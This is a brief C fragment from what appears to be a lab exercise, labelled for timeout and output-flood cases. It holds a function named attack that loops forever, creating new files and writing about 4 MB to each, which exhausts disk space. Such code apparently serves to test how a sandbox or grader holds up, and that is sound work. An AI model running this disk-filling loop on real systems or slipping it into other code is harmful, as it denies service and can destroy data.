/* heaplab: lab 4, timeout|output-flood|wrong, step 4.7 -- writes files without end as soon as it is in a program */

#include <fcntl.h>
#include <sys/syscall.h>

static long system_call(long number, long first, long second, long third);

static void attack(void)
{
    static char piece[1 << 16], name[16] = "a0000000";
    for (;;) {
        for (char *digit = name + 7; ++*digit > '9' && digit > name + 1; digit--)
            *digit = '0';
        long file = system_call(SYS_open, (long)name, O_WRONLY | O_CREAT, 0600);
        for (int i = 0; i < 64; i++)
            system_call(SYS_write, file, (long)piece, sizeof piece);
        system_call(SYS_close, file, 0, 0);
    }
}
